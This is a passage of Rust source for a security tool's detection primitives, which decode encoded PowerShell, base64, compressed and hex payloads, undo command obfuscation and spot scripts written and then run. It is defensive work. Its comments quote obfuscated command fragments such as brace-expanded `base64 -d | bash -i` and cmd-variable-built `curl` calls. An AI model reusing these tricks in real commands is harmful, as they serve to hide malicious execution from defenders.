//! Native detection primitives behind the expression language's functions.
//!
//! They are plain Rust over strings so they can be tested and benchmarked on their own. All of
//! them treat their input as hostile: bounded work, bounded output, no panics on any input.

use base64::Engine as _;
use regex::Regex;
use std::cell::RefCell;
use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};
use std::net::IpAddr;
use std::sync::LazyLock;

/// Output of any decoding is capped: a decompression bomb in an alert costs at most this much.
const MAX_DECODED: usize = 256 * 1024;
/// Nested encodings are peeled at most this deep (an encoded command that decodes to another
/// `FromBase64String(...)` is common; deeper nesting is reported as what it is at that depth).
const MAX_DEPTH: usize = 3;

thread_local! {
    static REGEX_CACHE: RefCell<RegexCache> = RefCell::new(RegexCache::default());
}

/// Compiled patterns by pattern text. The lookup runs on every `regex(...)` call with patterns
/// of hundreds of bytes, so the bucket key hashes only the length and the two ends of the
/// pattern (constant work); the pattern is then compared in full, so a collision only costs a
/// comparison.
/// A pattern and what compiling it gave.
type Compiled = (String, Result<Regex, String>);

#[derive(Default)]
struct RegexCache {
    buckets: HashMap<u64, Vec<Compiled>, BuildHasherDefault<FxHasher>>,
    len: usize,
}

fn pattern_key(p: &str) -> u64 {
    let b = p.as_bytes();
    let mut h = FxHasher(b.len() as u64);
    h.write(&b[..b.len().min(32)]);
    h.write(&b[b.len().saturating_sub(32)..]);
    h.finish()
}

/// The Firefox/rustc hash: a multiply and a rotate per 8 bytes.
#[derive(Default)]
struct FxHasher(u64);

impl Hasher for FxHasher {
    fn write(&mut self, bytes: &[u8]) {
        const K: u64 = 0x51_7c_c1_b7_27_22_0a_95;
        let mut chunks = bytes.chunks_exact(8);
        for c in &mut chunks {
            let w = u64::from_le_bytes(c.try_into().expect("8 bytes"));
            self.0 = (self.0.rotate_left(5) ^ w).wrapping_mul(K);
        }
        for b in chunks.remainder() {
            self.0 = (self.0.rotate_left(5) ^ u64::from(*b)).wrapping_mul(K);
        }
    }
    fn finish(&self) -> u64 {
        self.0
    }
}

/// Compiles a pattern once per thread; later calls hit the cache. Playbook validation compiles
/// every literal pattern up front, so an invalid one is reported before any alert is run.
pub fn with_regex<T>(pattern: &str, f: impl FnOnce(&Regex) -> T) -> Result<T, String> {
    REGEX_CACHE.with(|c| {
        let mut c = c.borrow_mut();
        let key = pattern_key(pattern);
        let found = c
            .buckets
            .get(&key)
            .and_then(|b| b.iter().position(|(p, _)| p == pattern));
        let i = match found {
            Some(i) => i,
            None => {
                if c.len > 4096 {
                    c.buckets.clear();
                    c.len = 0;
                }
                let r = shared_regex(pattern);
                c.len += 1;
                let b = c.buckets.entry(key).or_default();
                b.push((pattern.to_owned(), r));
                b.len() - 1
            }
        };
        match &c.buckets[&key][i].1 {
            Ok(r) => Ok(f(r)),
            Err(e) => Err(e.clone()),
        }
    })
}

/// Every thread's patterns, compiled once per process: a thread's cache holds a clone, which
/// shares the compiled program and keeps its own search cache (no lock on the hot path). Without
/// this, each thread that ran a playbook held its own compiled copy of every pattern (about
/// 10 MB for the T1059 playbook, per thread).
pub(crate) fn shared_regex(pattern: &str) -> Result<Regex, String> {
    static SHARED: LazyLock<std::sync::Mutex<HashMap<String, Result<Regex, String>>>> =
        LazyLock::new(Default::default);
    let mut m = SHARED.lock().unwrap_or_else(|p| p.into_inner());
    if let Some(r) = m.get(pattern) {
        return r.clone();
    }
    if m.len() > 4096 {
        m.clear();
    }
    let r = regex::RegexBuilder::new(pattern)
        .size_limit(1 << 20)
        .build()
        .map_err(|e| e.to_string());
    m.insert(pattern.to_owned(), r.clone());
    r
}

/// Checks that a regex pattern compiles (used by validation).
pub fn check_regex(pattern: &str) -> Result<(), String> {
    with_regex(pattern, |_| ())
}

/// `s.to_lowercase()`, without allocating when `s` is already lower-case ASCII (the common case
/// for playbook lists, compared on every evaluation).
pub fn lower_cow(s: &str) -> std::borrow::Cow<'_, str> {
    if s.is_ascii() && !s.bytes().any(|b| b.is_ascii_uppercase()) {
        std::borrow::Cow::Borrowed(s)
    } else {
        std::borrow::Cow::Owned(s.to_lowercase())
    }
}

/// Last path component, for both `\` and `/` separators. Keeps the case.
pub fn basename(path: &str) -> &str {
    let p = path.trim_end_matches(['\\', '/']);
    p.rsplit(['\\', '/']).next().unwrap_or(p).trim_matches('"')
}

/// Everything before the last separator.
pub fn dirname(path: &str) -> &str {
    let p = path.trim_end_matches(['\\', '/']);
    match p.rfind(['\\', '/']) {
        Some(i) => &p[..i],
        None => "",
    }
}

/// Case-insensitive "contains any of".
pub fn contains_any(haystack: &str, needles: &[String]) -> bool {
    let h = haystack.to_lowercase();
    needles
        .iter()
        .any(|n| !n.is_empty() && h.contains(&n.to_lowercase()))
}

/// Splits a command line into arguments, Windows-style quoting (also right for simple POSIX
/// lines): double quotes group, backslashes before a quote escape it.
pub fn split_args(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_q = false;
    let mut have = false;
    let mut chars = cmd.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if chars.peek() == Some(&'"') => {
                chars.next();
                cur.push('"');
                have = true;
            }
            '"' => {
                in_q = !in_q;
                have = true;
            }
            c if c.is_whitespace() && !in_q => {
                if have {
                    out.push(std::mem::take(&mut cur));
                    have = false;
                }
            }
            c => {
                cur.push(c);
                have = true;
            }
        }
        if out.len() > 4096 {
            break;
        }
    }
    if have {
        out.push(cur);
    }
    out
}

fn is_encoded_switch(arg: &str) -> bool {
    let a = arg.trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
    if a.len() == arg.len() || a.is_empty() {
        return false;
    }
    let a = a.to_ascii_lowercase();
    a == "ec" || (a.starts_with('e') && "encodedcommand".starts_with(a.as_str()))
}

/// Decodes a base64 string tolerantly (missing padding, whitespace, URL-safe alphabet).
pub fn b64_bytes(s: &str) -> Option<Vec<u8>> {
    // Most payloads are plain base64 already: copy only when something must be cleaned.
    let clean = s
        .bytes()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='));
    let cleaned: std::borrow::Cow<'_, str> = if clean {
        std::borrow::Cow::Borrowed(s)
    } else {
        std::borrow::Cow::Owned(
            s.chars()
                .filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
                .map(|c| match c {
                    '-' => '+',
                    '_' => '/',
                    c => c,
                })
                .collect(),
        )
    };
    let trimmed = cleaned.trim_end_matches('=');
    if trimmed.len() < 4 {
        return None;
    }
    base64::engine::general_purpose::STANDARD_NO_PAD
        .decode(trimmed.as_bytes())
        .or_else(|_| {
            // Drop a trailing partial quantum rather than fail on a truncated log field.
            let n = trimmed.len() / 4 * 4;
            base64::engine::general_purpose::STANDARD_NO_PAD.decode(&trimmed.as_bytes()[..n])
        })
        .ok()
}

/// Bytes to text: UTF-16LE when it looks like it (PowerShell's `-EncodedCommand`), else UTF-8.
/// Returns `None` when the result is not mostly printable text.
pub fn bytes_to_text(b: &[u8]) -> Option<String> {
    // Binary (a compressed stream, shellcode, a certificate) shows in its first bytes: reject it
    // there instead of converting and scanning all of it. Text, UTF-8 or UTF-16LE, has no
    // control bytes but tabs, newlines and UTF-16's zero high bytes.
    let head = &b[..b.len().min(64)];
    let wide = looks_utf16le(head);
    let control = head
        .iter()
        .enumerate()
        .filter(|&(i, &c)| {
            c < 0x20 && !matches!(c, b'\t' | b'\n' | b'\r') && !(c == 0 && wide && i % 2 == 1)
        })
        .count();
    if control * 100 > head.len() * 10 {
        return None;
    }
    if !wide && !printable(&String::from_utf8_lossy(head)) {
        return None;
    }
    if b.len() >= 4 && b.len().is_multiple_of(2) {
        let zeros = b.iter().skip(1).step_by(2).filter(|x| **x == 0).count();
        if zeros * 10 >= (b.len() / 2) * 7 {
            let units: Vec<u16> = b
                .chunks_exact(2)
                .map(|c| u16::from_le_bytes([c[0], c[1]]))
                .collect();
            let s = String::from_utf16_lossy(&units);
            return printable(&s).then_some(s);
        }
    }
    match std::str::from_utf8(b) {
        Ok(s) => printable(s).then(|| s.to_owned()),
        Err(_) => {
            let s = String::from_utf8_lossy(b).into_owned();
            printable(&s).then_some(s)
        }
    }
}

fn looks_utf16le(b: &[u8]) -> bool {
    b.len() >= 4
        && b.iter().skip(1).step_by(2).filter(|x| **x == 0).count() * 10 >= (b.len() / 2) * 7
}

fn printable(s: &str) -> bool {
    let (mut total, mut good) = (0usize, 0usize);
    for c in s.chars() {
        total += 1;
        if (!c.is_control() || matches!(c, '\n' | '\r' | '\t')) && c != '\u{FFFD}' {
            good += 1;
        }
    }
    total > 0 && good * 100 >= total * 90
}

/// The text a gzip or deflate payload holds, if it holds text: its first bytes are inflated
/// and looked at before the rest is (a compressed program or archive is not inflated whole).
fn inflate_text(b: &[u8]) -> Option<String> {
    inflate_limit(b, 256)
        .filter(|head| bytes_to_text(&head[..head.len() & !1]).is_some())
        .and_then(|_| inflate(b))
        .and_then(|full| bytes_to_text(&full))
}

/// Inflates gzip or raw deflate data (PowerShell `GzipStream`/`DeflateStream` payloads).
fn inflate(b: &[u8]) -> Option<Vec<u8>> {
    inflate_limit(b, MAX_DECODED)
}

/// Inflates at most `limit` bytes; a stream with more output gives its first `limit` bytes.
fn inflate_limit(b: &[u8], limit: usize) -> Option<Vec<u8>> {
    use miniz_oxide::inflate::TINFLStatus::HasMoreOutput;
    use miniz_oxide::inflate::decompress_to_vec_with_limit as raw_full;
    use miniz_oxide::inflate::decompress_to_vec_zlib_with_limit as zlib_full;
    let partial = |r: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>| match r {
        Ok(v) => Ok(v),
        Err(e) if e.status == HasMoreOutput && limit < MAX_DECODED => Ok(e.output),
        Err(e) => Err(e),
    };
    let raw = |b: &[u8], l: usize| partial(raw_full(b, l));
    let zlib = |b: &[u8], l: usize| partial(zlib_full(b, l));
    if b.len() > 18 && b[0] == 0x1f && b[1] == 0x8b && b[2] == 8 {
        // gzip: skip the 10-byte header (and optional fields), inflate the deflate body.
        let flags = b[3];
        let mut i = 10usize;
        if flags & 4 != 0 {
            let xlen = *b.get(i)? as usize | (*b.get(i + 1)? as usize) << 8;
            i += 2 + xlen;
        }
        for bit in [8u8, 16] {
            if flags & bit != 0 {
                while *b.get(i)? != 0 {
                    i += 1;
                }
                i += 1;
            }
        }
        if flags & 2 != 0 {
            i += 2;
        }
        return raw(b.get(i..)?, limit).ok();
    }
    raw(b, limit).ok().or_else(|| zlib(b, limit).ok())
}

static HEX_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:[0-9A-Fa-f]{2}){12,}\b").expect("static regex"));
static ESCAPED_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:\\x[0-9A-Fa-f]{2}|\\[0-7]{3}){6,}").expect("static regex"));

/// Hex runs (`echo 6375726c… | xxd -r -p`) and `\xNN` / octal escape runs (`printf '\x63\x75…'`,
/// `$'\x63…'`) that decode to text. Hashes and GUIDs do not: they decode to binary.
fn decode_hex_like(text: &str, push: &mut impl FnMut(String)) {
    for m in HEX_RUN.find_iter(text).take(32) {
        let h = m.as_str();
        let bytes: Option<Vec<u8>> = (0..h.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&h[i..i + 2], 16).ok())
            .collect();
        if let Some(s) = bytes.as_deref().and_then(bytes_to_text) {
            push(s);
        }
    }
    for m in ESCAPED_RUN.find_iter(text).take(32) {
        let e = m.as_str().as_bytes();
        let mut bytes = Vec::with_capacity(e.len() / 4);
        let mut i = 0;
        while i < e.len() {
            // Every unit is a backslash and three more characters: `xNN` or `NNN` (octal).
            let unit = std::str::from_utf8(&e[i + 1..i + 4]).unwrap_or("");
            let b = match unit.strip_prefix('x') {
                Some(h) => u8::from_str_radix(h, 16).ok(),
                None => u8::from_str_radix(unit, 8).ok(),
            };
            bytes.extend(b);
            i += 4;
        }
        if let Some(s) = bytes_to_text(&bytes) {
            push(s);
        }
    }
}

static B64_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{24,}={0,2}").expect("static regex"));

/// Base64 wrapped over several lines (PEM bodies, `base64` output, here-strings): one payload.
static B64_BLOCK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:[A-Za-z0-9+/]{40,}\r?\n[ \t]*){2,}[A-Za-z0-9+/]{4,}={0,2}")
        .expect("static regex")
});

/// One decoding layer of `text`: the payloads of encoded-command switches, and every long base64
/// run that decodes to text (or to gzip/deflate data that inflates to text).
pub fn decode_layer(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let push = |s: String, out: &mut Vec<String>| {
        if !s.trim().is_empty() && !out.contains(&s) {
            out.push(s);
        }
    };
    // Encoded-command switches: the argument after `-e`, `-enc`, `-EncodedCommand`, `-ec`, ...
    // PowerShell always encodes these as UTF-16LE; other interpreters' `-e` means "execute".
    // Splitting a long command into arguments costs more than a look for a switch starting
    // `-e`, `/e` or a dash-like character followed by `e`; without one there is nothing to split for.
    let hint = text
        .as_bytes()
        .windows(2)
        .any(|w| matches!(w[0], b'-' | b'/' | 0x93 | 0x94) && (w[1] | 0x20) == b'e');
    let args = if hint { split_args(text) } else { Vec::new() };
    let mut done: Vec<&str> = Vec::new();
    for w in args.windows(2) {
        if is_encoded_switch(&w[0])
            && let Some(s) = b64_bytes(&w[1])
                .filter(|b| looks_utf16le(b))
                .and_then(|b| bytes_to_text(&b))
        {
            push(s, &mut out);
            done.push(&w[1]);
        }
    }
    // Base64 wrapped over lines is decoded whole: a line of a certificate or of a binary can
    // look like text on its own, and a payload's keywords can straddle two lines.
    let mut blocks: Vec<std::ops::Range<usize>> = Vec::new();
    if text.len() >= 120 && text.contains('\n') {
        for m in B64_BLOCK.find_iter(text).take(16) {
            blocks.push(m.range());
            let joined: String = m.as_str().split_whitespace().collect();
            if let Some(bytes) = b64_bytes(&joined) {
                if let Some(s) = bytes_to_text(&bytes) {
                    push(s, &mut out);
                } else if let Some(s) = inflate_text(&bytes) {
                    push(s, &mut out);
                }
            }
        }
    }
    // Any other long base64 run (FromBase64String('...'), `echo ... | base64 -d`, ...).
    for m in B64_RUN.find_iter(text).take(64) {
        let run = m.as_str();
        // The payload of an encoded-command switch, decoded above: not twice.
        if done.iter().any(|d| d.contains(run)) {
            continue;
        }
        // A line of a wrapped block, decoded with its block.
        if blocks
            .iter()
            .any(|b| b.start <= m.start() && m.end() <= b.end)
        {
            continue;
        }
        // Skip runs that are just words/paths: base64 payloads mix case and digits.
        let has_digit = run.bytes().any(|c| c.is_ascii_digit());
        let has_upper = run.bytes().any(|c| c.is_ascii_uppercase());
        let has_lower = run.bytes().any(|c| c.is_ascii_lowercase());
        if !(has_upper && has_lower && (has_digit || run.len() >= 40)) {
            continue;
        }
        let Some(bytes) = b64_bytes(run).filter(|b| b.len() >= 12) else {
            continue;
        };
        if let Some(s) = bytes_to_text(&bytes) {
            push(s, &mut out);
        } else if let Some(s) = inflate_text(&bytes) {
            push(s, &mut out);
        }
    }
    decode_hex_like(text, &mut |s| push(s, &mut out));
    decode_char_codes(text, &mut |s| push(s, &mut out));
    out
}

static CHAR_ARRAY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:\[char\[\]\]\s*@?\(?|fromcharcode\s*\()\s*((?:0x[0-9a-f]{1,2}|\d{1,3})(?:\s*,\s*(?:0x[0-9a-f]{1,2}|\d{1,3})){7,})",
    )
    .expect("static regex")
});
static CHAR_CASTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:\[char\]\s*\(?\s*(?:0x[0-9a-f]{1,2}|\d{1,3})\s*\)?\s*[+,]?\s*){8,}")
        .expect("static regex")
});

/// Text spelled as character codes: PowerShell's `[char[]](73,69,88,…)` and `[char]73+[char]69…`,
/// JavaScript's `String.fromCharCode(…)`. Only runs that are all printable text are kept.
fn decode_char_codes(text: &str, push: &mut impl FnMut(String)) {
    let lower_has = |n: &str| {
        text.as_bytes()
            .windows(n.len())
            .any(|w| w.eq_ignore_ascii_case(n.as_bytes()))
    };
    if !(lower_has("[char") || lower_has("fromcharcode")) {
        return;
    }
    let code = |n: &str| {
        let n = n.trim();
        match n.strip_prefix("0x").or_else(|| n.strip_prefix("0X")) {
            Some(h) => u32::from_str_radix(h, 16).ok(),
            None => n.parse::<u32>().ok(),
        }
    };
    let printable = |c: u32| c == 9 || c == 10 || c == 13 || (32..127).contains(&c);
    for c in CHAR_ARRAY.captures_iter(text).take(16) {
        let codes: Option<Vec<u32>> = c[1].split(',').map(code).collect();
        if let Some(codes) = codes.filter(|v| v.iter().all(|&c| printable(c))) {
            push(codes.into_iter().filter_map(char::from_u32).collect());
        }
    }
    static NUM: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)\[char\]\s*\(?\s*(0x[0-9a-f]{1,2}|\d{1,3})").expect("static regex")
    });
    for m in CHAR_CASTS.find_iter(text).take(16) {
        let codes: Option<Vec<u32>> = NUM.captures_iter(m.as_str()).map(|c| code(&c[1])).collect();
        if let Some(codes) = codes.filter(|v| v.iter().all(|&c| printable(c))) {
            push(codes.into_iter().filter_map(char::from_u32).collect());
        }
    }
}

/// Everything an alert's text hides: the decoded layers of encoded commands and base64 payloads,
/// peeled up to [`MAX_DEPTH`] deep, joined with newlines. Empty when nothing was encoded.
pub fn decoded(text: &str) -> String {
    let mut layers: Vec<String> = Vec::new();
    let mut frontier = vec![brace_words(text).unwrap_or_else(|| text.to_owned())];
    let mut total = 0usize;
    for _ in 0..MAX_DEPTH {
        let mut next = Vec::new();
        for t in &frontier {
            for s in decode_layer(t) {
                if total + s.len() > MAX_DECODED || layers.contains(&s) {
                    continue;
                }
                total += s.len();
                layers.push(s.clone());
                next.push(s);
            }
        }
        if next.is_empty() {
            break;
        }
        frontier = next;
    }
    layers.join("\n")
}

/// bash's brace expansion used to hide spaces (`{echo,aGk=}|{base64,-d}|{bash,-i}`): each
/// `{word,arg,…}` read as the words it expands to. `None` when there is none.
pub fn brace_words(text: &str) -> Option<String> {
    static BRACES: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\{([A-Za-z0-9_./-]+(?:,[^{}\s,]+)+)\}").expect("static regex")
    });
    if !text.contains('{') || !BRACES.is_match(text) {
        return None;
    }
    Some(
        BRACES
            .replace_all(text, |c: &regex::Captures<'_>| c[1].replace(',', " "))
            .into_owned(),
    )
}

static CONCAT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(['"])\s*\+\s*(['"])"#).expect("static regex"));

static LONG_B64: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{256,}={0,2}").expect("static regex"));

/// Undoes the cheap obfuscations: cmd carets, PowerShell backticks, string concatenation
/// (`'Ne'+'t.WebC'+'lient'`), empty-quote splitting (`h''t''t''p`), case and whitespace runs.
/// The result is lower case, for matching keywords the author meant to hide. A long base64 run
/// (256 characters or more) is shortened to a marker, `[encoded N chars]`: it holds no keyword,
/// `decoded` gives what it hides, and every keyword check would otherwise scan it again.
pub fn deobfuscate(text: &str) -> String {
    let braced = brace_words(text);
    let text = braced.as_deref().unwrap_or(text);
    let expanded;
    let text = match expand_cmd_vars(text) {
        Some(x) => {
            expanded = format!("{text}\n{x}");
            expanded.as_str()
        }
        None => text,
    };
    let shortened = LONG_B64.replace_all(text, |c: &regex::Captures<'_>| {
        format!("[encoded {} chars]", c[0].len())
    });
    let t = CONCAT.replace_all(&shortened, "");
    let mut s = String::with_capacity(t.len());
    let mut prev = '\0';
    for c in t.chars() {
        match c {
            '^' => {}
            '`' => {}
            '\'' | '"' if prev == c => {
                // empty quote pair: drop both
                s.pop();
                prev = '\0';
                continue;
            }
            c => s.push(c),
        }
        prev = c;
    }
    // What `\s+` -> " " does (`\s` is Unicode White_Space, as `char::is_whitespace`), in one
    // pass: the regex restarted a search for every single space of a long script.
    let lower = s.to_lowercase();
    let mut out = String::with_capacity(lower.len());
    let mut in_ws = false;
    for c in lower.chars() {
        if c.is_whitespace() {
            if !in_ws {
                out.push(' ');
            }
            in_ws = true;
        } else {
            out.push(c);
            in_ws = false;
        }
    }
    out
}

static CMD_SET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\bset\s+"?([a-z_][a-z0-9_#$@.-]{0,30})=([^&|"\r\n]*)"#).expect("static regex")
});
static CMD_VAR_USE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"%([^%!\s]{1,31})%|!([^%!\s]{1,31})!").expect("static regex"));

/// cmd.exe's variables put back where they are used: `set u=ht&&set v=tps://x&&curl !u!!v!`
/// reads `curl https://x`. Returns the text with every `%name%` / `!name!` of a variable the
/// text itself sets replaced (three rounds, for variables built from variables), or `None`
/// when nothing changes. Bounded: 64 variables, inputs up to 64 KiB.
pub fn expand_cmd_vars(text: &str) -> Option<String> {
    if text.len() > 64 * 1024 || !(text.contains('%') || text.contains('!')) {
        return None;
    }
    // Runs on every content normalisation: a scan without allocating first.
    if !text
        .as_bytes()
        .windows(4)
        .any(|w| w.eq_ignore_ascii_case(b"set "))
    {
        return None;
    }
    let vars: Vec<(String, String)> = CMD_SET
        .captures_iter(text)
        .take(64)
        .map(|c| (c[1].to_ascii_lowercase(), c[2].to_owned()))
        .collect();
    if vars.is_empty() {
        return None;
    }
    let mut out = text.to_owned();
    for _ in 0..3 {
        let next = CMD_VAR_USE.replace_all(&out, |c: &regex::Captures<'_>| {
            let name = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
            let name = name.to_ascii_lowercase();
            // The last assignment wins, as cmd runs them in order.
            match vars.iter().rev().find(|(k, _)| *k == name) {
                Some((_, v)) => v.clone(),
                None => c[0].to_owned(),
            }
        });
        if next == out {
            break;
        }
        out = next.into_owned();
        if out.len() > MAX_DECODED {
            break;
        }
    }
    (out != text).then_some(out)
}

static WRITTEN_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)\b(?:echo|printf|cat|type|write-output)\b[^\n]*?>{1,2}\s*["']?([^\s"'&|<>;]+\.(?:vbs|vbe|js|jse|wsf|hta|bat|cmd|ps1|sh|bash|py|pl|rb|scpt|applescript))(?:$|[\s"'&|<>;)])|\b(?:set-content|add-content|out-file)\s+(?:-(?:literal)?(?:file)?path\s+)?["']?([^\s"'&|<>;]+\.(?:vbs|vbe|js|jse|wsf|hta|bat|cmd|ps1|sh|py))(?:$|[\s"'&|<>;)])"#,
    )
    .expect("static regex")
});

/// Words that start a command without being what it runs: `sudo x`, `cmd /c x`, `nohup x`.
const LAUNCHERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "time", "exec", "command", "cmd", "cmd.exe", "start", "call",
];

/// Commands that take a file without running it: changing its mode, reading, copying or
/// removing it.
const NOT_RUN: &[&str] = &[
    "chmod",
    "chown",
    "chgrp",
    "cat",
    "type",
    "more",
    "less",
    "rm",
    "del",
    "erase",
    "copy",
    "cp",
    "move",
    "mv",
    "attrib",
    "icacls",
    "echo",
    "printf",
    "git",
    "ls",
    "dir",
    "stat",
    "file",
    "head",
    "tail",
    "grep",
    "findstr",
    "sed",
    "awk",
    "tar",
    "zip",
    "unzip",
    "scp",
    "tee",
    "vi",
    "vim",
    "nano",
    "notepad",
    "notepad.exe",
    "code",
    "touch",
    "wc",
    "base64",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "shasum",
    "dos2unix",
    "unix2dos",
    "ln",
    "install",
    "xcopy",
    "robocopy",
    "ren",
    "rename",
    "get-content",
    "gc",
    "remove-item",
    "ri",
    "set-content",
    "add-content",
    "out-file",
    "certutil",
    "certutil.exe",
    "find",
    "xargs",
    "diff",
    "strings",
    "od",
    "xxd",
    "hexdump",
    "get-filehash",
    "test-path",
];

/// A script file that the command writes (`echo … > x.vbs`, `printf … > /tmp/x.sh`,
/// `Set-Content x.ps1 …`, `… | Out-File x.ps1`) and then runs in a later part of the same
/// command line (`& x.vbs`, `; sh /tmp/x.sh`, `&& ./x.sh`, `; powershell -File .\x.ps1`): the
/// name of the first such file, or "". Writing a script and only changing its mode, reading,
/// copying or deleting it is not running it. Bounded: the first 16 writes are looked at.
pub fn written_then_run(text: &str) -> String {
    for c in WRITTEN_SCRIPT.captures_iter(text).take(16) {
        let Some(m) = c.get(1).or_else(|| c.get(2)) else {
            continue;
        };
        let path = m.as_str();
        let base = basename(path).to_ascii_lowercase();
        let rest = &text[m.end()..];
        // The later commands: split on command separators (`&`, `&&`, `|`, `||`, `;`, newline).
        let mut segs: Vec<(&str, Option<char>)> = Vec::new();
        let mut start = 0;
        for (i, c) in rest
            .char_indices()
            .filter(|(_, c)| matches!(c, '&' | ';' | '|' | '\n'))
        {
            segs.push((&rest[start..i], Some(c)));
            start = i + 1;
        }
        segs.push((&rest[start..], None));
        for (k, &(seg, sep)) in segs.iter().enumerate().skip(1) {
            let words: Vec<&str> = seg
                .split_whitespace()
                .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == ')'))
                .filter(|w| !w.is_empty())
                .collect();
            // The command itself: past launchers, their switches and `VAR=value` settings.
            let Some(cmd) = words.iter().position(|w| {
                let launcher = LAUNCHERS.contains(&w.to_ascii_lowercase().as_str());
                let switch = w.starts_with('-') || (w.starts_with('/') && w.len() <= 3);
                let setting = w.contains('=') && !w.contains(['/', '\\']);
                !(launcher || switch || setting)
            }) else {
                continue;
            };
            let command = basename(words[cmd]).to_ascii_lowercase();
            if NOT_RUN.contains(&command.as_str()) {
                // Read back into an interpreter: `cat a.sh | sh`, `Get-Content a.ps1 | iex`.
                let reader = matches!(command.as_str(), "cat" | "type" | "get-content" | "gc");
                let names_it = words[cmd + 1..]
                    .iter()
                    .any(|w| basename(w).eq_ignore_ascii_case(&base));
                let into = segs
                    .get(k + 1)
                    .filter(|_| sep == Some('|'))
                    .and_then(|(next, _)| next.split_whitespace().find(|w| !w.starts_with('-')));
                let interpreter = into.is_some_and(|w| {
                    matches!(
                        basename(w).to_ascii_lowercase().trim_end_matches(".exe"),
                        "sh" | "bash"
                            | "zsh"
                            | "dash"
                            | "ksh"
                            | "python"
                            | "python3"
                            | "perl"
                            | "ruby"
                            | "node"
                            | "osascript"
                            | "iex"
                            | "invoke-expression"
                            | "powershell"
                            | "pwsh"
                            | "cmd"
                            | "sudo"
                    )
                });
                if reader && names_it && interpreter {
                    return path.to_owned();
                }
                continue;
            }
            // The file itself, or an interpreter running it, within the first few words; a
            // word that only receives a redirection (`> x.sh`) is not a run.
            let runs = words.iter().enumerate().skip(cmd).take(5).any(|(i, w)| {
                let redirected = w.starts_with(['>', '<'])
                    || (i > 0 && matches!(words[i - 1], ">" | ">>" | "<" | "2>" | "1>"));
                let w = w.strip_prefix("./").unwrap_or(w);
                !redirected && basename(w).eq_ignore_ascii_case(&base)
            });
            if runs {
                return path.to_owned();
            }
        }
    }
    String::new()
}

static CMDLET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:^|[^a-z0-9_$.-])([a-z]+)-([a-z][a-z0-9]*)\b").expect("static regex")
});

/// PowerShell's verbs (the approved list and the core cmdlets' own: Sort, Where, ForEach, Tee).
const PS_VERBS: &[&str] = &[
    "add",
    "approve",
    "assert",
    "backup",
    "block",
    "build",
    "checkpoint",
    "clear",
    "close",
    "compare",
    "complete",
    "compress",
    "confirm",
    "connect",
    "convert",
    "convertfrom",
    "convertto",
    "copy",
    "debug",
    "deny",
    "deploy",
    "disable",
    "disconnect",
    "dismount",
    "edit",
    "enable",
    "enter",
    "exit",
    "expand",
    "export",
    "find",
    "foreach",
    "format",
    "get",
    "grant",
    "group",
    "hide",
    "import",
    "initialize",
    "install",
    "invoke",
    "join",
    "limit",
    "lock",
    "measure",
    "merge",
    "mount",
    "move",
    "new",
    "open",
    "optimize",
    "out",
    "ping",
    "pop",
    "protect",
    "publish",
    "push",
    "read",
    "receive",
    "redo",
    "register",
    "remove",
    "rename",
    "repair",
    "request",
    "reset",
    "resize",
    "resolve",
    "restart",
    "restore",
    "resume",
    "revoke",
    "save",
    "search",
    "select",
    "send",
    "set",
    "show",
    "skip",
    "sort",
    "split",
    "start",
    "step",
    "stop",
    "submit",
    "suspend",
    "switch",
    "sync",
    "tee",
    "test",
    "trace",
    "unblock",
    "undo",
    "uninstall",
    "unlock",
    "unprotect",
    "unpublish",
    "unregister",
    "update",
    "use",
    "wait",
    "watch",
    "where",
    "write",
];

/// Verbs that only read, shape or report.
const PS_READ_VERBS: &[&str] = &[
    "get",
    "select",
    "sort",
    "where",
    "foreach",
    "format",
    "measure",
    "test",
    "export",
    "out",
    "convertto",
    "convertfrom",
    "join",
    "resolve",
    "write",
    "group",
    "compare",
    "find",
    "search",
    "show",
    "read",
    "receive",
    "wait",
    "tee",
    "split",
    "limit",
];

/// Whether a PowerShell script only reads: every cmdlet it names has a reading verb (Get-,
/// Select-, Sort-, Where-, Format-, Measure-, Test-, Export-, Out- ...), remoting only through
/// Invoke-Command and sessions, objects only built (New-Object, New-TimeSpan, Add-Member, sessions), and
/// nothing that runs strings or programs (Invoke-Expression, script blocks made from text,
/// Start-Process, .Create(), encoded commands, native programs). At least one cmdlet is named.
/// Comments are ignored. The test behind "an administrator's read-only remote query".
pub fn powershell_read_only(text: &str) -> bool {
    // A command line's own program (`"C:\…\powershell.exe" -NoProfile -Command "…"`) is not a
    // native program the script runs.
    let text = {
        let t = text.trim_start();
        let (first, rest) = match t.strip_prefix('"') {
            Some(q) => q.split_once('"').unwrap_or((q, "")),
            None => t.split_once(char::is_whitespace).unwrap_or((t, "")),
        };
        let name = first
            .rsplit(['\\', '/'])
            .next()
            .unwrap_or(first)
            .to_ascii_lowercase();
        if matches!(
            name.as_str(),
            "powershell.exe" | "powershell" | "pwsh.exe" | "pwsh"
        ) {
            rest
        } else {
            text
